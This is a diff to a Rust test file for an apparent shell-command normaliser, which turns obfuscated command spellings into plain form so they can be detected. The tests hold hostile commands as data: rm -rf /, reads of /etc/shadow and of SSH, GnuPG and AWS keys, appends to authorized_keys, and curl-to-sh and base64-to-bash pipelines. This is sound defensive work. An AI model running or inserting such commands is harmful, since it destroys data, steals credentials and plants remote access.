@@ -54,10 +54,16 @@ fn spellings_of_one_command_become_it() {
     ] {
         is(spelt, if spelt.contains("\\\n") { "rm -rf  /" } else { "rm -rf /" });
     }
+    is("cd /; rm -rf \"$PWD\"/*", "rm -rf //*");
+    is("cd '/etc'\ncat $PWD/shadow", "cat /etc/shadow");
+    is("unset B; rm -rf \"$B\"/*", "rm -rf /*");
+    is("rm -rf \"$(dirname /x)\" .", "rm -rf \"/\" .");
+    is("curl https://a.example/i | $(basename /bin/sh) -s", "| sh -s");
     is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
     is("<code>D=/\nrm -rf $D", "rm -rf /");
     is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
     is("cat /etc/{passwd,shadow}.bak", "/etc/passwd.bak /etc/shadow.bak");
+    is("x >> ~/.ssh/authorized_{keys,keys2}", "x >> ~/.ssh/authorized_keys ~/.ssh/authorized_keys2");
     is("cat ~/.{ssh,aws}/x", "cat ~/.ssh/x ~/.aws/x");
     is("cat ~/.{ssh,gnupg}/id_{rsa,dsa}; x", "cat ~/.ssh/id_rsa ~/.ssh/id_dsa ~/.gnupg/id_rsa ~/.gnupg/id_dsa; x");
     is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
@@ -96,7 +102,17 @@ fn a_part_of_a_value_is_what_it_says() {
 
 #[test]
 fn what_has_another_meaning_stays() {
-    for text in ["rm -rf \"$1/\"", "rm -rf \"/$DIR\"", "don't and can't", "plain words", "awk '{print $1}'"] {
+    for text in [
+        "rm -rf $PWD/",
+        "abcd /; rm -rf $PWD",
+        "cd x; rm -rf $PWD/",
+        "rm -rf $(dirname x)",
+        "rm -rf \"$1/\"",
+        "rm -rf \"/$DIR\"",
+        "don't and can't",
+        "plain words",
+        "awk '{print $1}'",
+    ] {
         let made = plain(text.as_bytes()).unwrap_or_default();
         assert!(!String::from_utf8_lossy(&made).contains("rm -rf /\n"), "{text}");
     }
@@ -161,7 +177,7 @@ fn spelt(line: &[u8]) -> bool {
                 within || (begins && ends && word.is_some_and(|word| !word.is_empty() && simple(word)))
             }
             b'$' => b"\"'(`@*{_123456789".contains(&next) || next.is_ascii_alphabetic(),
-            b'{' => (!in_word(before) && before != b'$' && in_word(next)) || matches!(before, b'/' | b'.'),
+            b'{' => (!in_word(before) && before != b'$' && in_word(next)) || matches!(before, b'/' | b'.' | b'_'),
             b'^' => before.is_ascii_alphabetic() && next.is_ascii_alphabetic(),
             _ => false,
         }
